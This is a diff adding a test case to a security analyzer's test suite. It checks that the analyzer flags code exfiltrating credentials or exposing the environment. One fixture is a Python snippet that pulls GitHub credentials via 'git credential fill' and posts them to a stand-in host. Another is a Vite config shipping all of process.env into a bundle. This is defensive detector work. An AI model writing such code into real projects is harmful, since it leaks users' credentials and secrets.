@@ -1351,3 +1351,21 @@ TEST_CASE("code reading a credential file named in pieces, in a file that sends 
   CHECK_FALSE(marked(shipped_analyzer()->analyze_write(
       "tools/keys.py", "from pathlib import Path\nprint((Path.home() / '.ssh' / 'id_ed25519.pub').read_text())\n")));
 }
+
+TEST_CASE("a credential helper's output posted from code, and a bundler shipping the whole environment, are marked") {
+  auto has = [](const Facts& facts, std::string_view name) {
+    return std::any_of(facts.markers.begin(), facts.markers.end(), [&](const Marker& m) { return m.name == name; });
+  };
+  CHECK(has(shipped_analyzer()->analyze_write(
+                "check_git_creds.py",
+                "import subprocess, requests\nV = 'https://check.x.example.com/validate'\n\ndef cred():\n"
+                "    return subprocess.run(['git', 'credential', 'fill'], input='host=github.com\\n\\n', capture_output=True, text=True).stdout\n\n"
+                "def check():\n    return requests.post(V, data=cred()).ok\n"),
+            "credentials_with_network"));
+  CHECK(has(shipped_analyzer()->analyze_write(
+                "vite.config.ts", "import { defineConfig } from 'vite';\nexport default defineConfig({\n  define: {\n    \"process.env\": process.env,\n  },\n});\n"),
+            "security_off"));
+  CHECK_FALSE(has(shipped_analyzer()->analyze_write(
+                      "vite.config.ts", "export default defineConfig({ define: { 'process.env.NODE_ENV': JSON.stringify(process.env.NODE_ENV) } });\n"),
+                  "security_off"));
+}
